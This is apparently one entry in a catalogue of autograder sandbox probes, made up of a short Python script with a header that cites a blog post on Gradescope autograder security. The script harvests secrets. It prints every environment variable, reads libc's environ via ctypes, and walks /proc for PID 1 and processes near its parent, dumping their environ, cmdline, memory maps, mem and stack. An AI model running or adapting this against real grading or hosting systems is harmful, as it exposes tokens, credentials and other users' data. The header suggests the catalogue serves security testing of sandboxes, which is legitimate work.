# title: tokens in the environment, also that of other processes
# source: https://saligrama.io/blog/gradescope-autograder-security
# question: softmax
# stopped by: files
# peers: no (it reads real processes)
# %% first
import ctypes, os
print("LOOT", dict(os.environ))
print("LOOT", ctypes.c_char_p.in_dll(ctypes.CDLL(None), "program_invocation_name").value)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while environ[index]:
    print("LOOT", environ[index])
    index += 1
for number in ("self", "1", os.getppid(), *range(os.getppid() - 3, os.getppid() + 10)):
    for name in ("environ", "cmdline", "maps", "cwd", "root", "fd", "mem", "stack", "task"):
        try:
            print("THROUGH", number, name, open(f"/proc/{number}/{name}", "rb").read(10**5))
        except OSError:
            pass
        try:
            if number != "self" and number != os.getpid():
                print("THROUGH", number, name, os.readlink(f"/proc/{number}/{name}"))
        except OSError:
            pass
